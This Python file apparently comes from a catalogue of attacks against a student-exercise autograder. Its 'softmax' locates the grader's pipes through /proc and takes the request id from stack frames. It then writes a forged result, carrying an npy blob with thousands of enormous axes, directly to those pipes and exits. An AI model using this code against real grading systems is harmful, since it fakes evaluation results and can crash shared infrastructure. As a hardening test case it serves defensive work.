# tries: forges arrays of ten thousand axes, whose product takes long
# by: values; an array has 64 axes at most
# layer: values
# verdict: crash

import json
import os
import stat
import struct
import sys

from autograder.student.course import find_exercise

PIPES = [n for n in range(64) if os.path.exists(f"/proc/self/fd/{n}")]
PIPES = [n for n in PIPES if stat.S_ISFIFO(os.fstat(n).st_mode)]


def number():
    frame = sys._getframe()
    while "session" not in frame.f_locals or "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"]["id"]


def reply(name, record, *blobs):
    count = sum(map(len, find_exercise(name)[1].runs(b"")))
    empty = {"raised": None, "values": VALUES, "gradients": DICT, "changed": DICT}
    empty |= {"side_effects": {"t": "list", "items": []}, "operations": DICT} | record
    records = [{"t": "dict", "items": [*map(list, empty.items())]}] * count
    items = [["id", number()], ["records", {"t": "list", "items": records}]]
    head = {"tree": {"t": "dict", "items": items}, "sizes": [len(blob) for blob in blobs]}
    head = json.dumps(head).encode()
    body = struct.pack("<Q", len(head)) + head + b"".join(blobs)
    message = memoryview(struct.pack("<Q", len(body)) + body)
    for pipe in PIPES:
        rest = message
        try:
            while rest:
                rest = rest[os.write(pipe, rest) :]
        except OSError:
            pass
    os._exit(0)


def npy(dtype, shape, data):
    text = str({"descr": dtype, "fortran_order": False, "shape": shape}).replace(")}", "), }")
    head = text.encode() + b" " * (53 - len(text) % 64 + 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data


def array(shape, dtype="uint8", kind="torch"):
    return {"t": "array", "i": 0, "kind": kind, "dtype": dtype, "device": "cpu", "shape": shape}


DICT = {"t": "dict", "items": []}
VALUES = {"t": "tuple", "items": []}


def softmax(scores, axis=-1):
    blob = npy("|u1", (999_999_999_999_999_989,) * 3000, b"")
    reply("softmax", {}, *[blob] * 400)
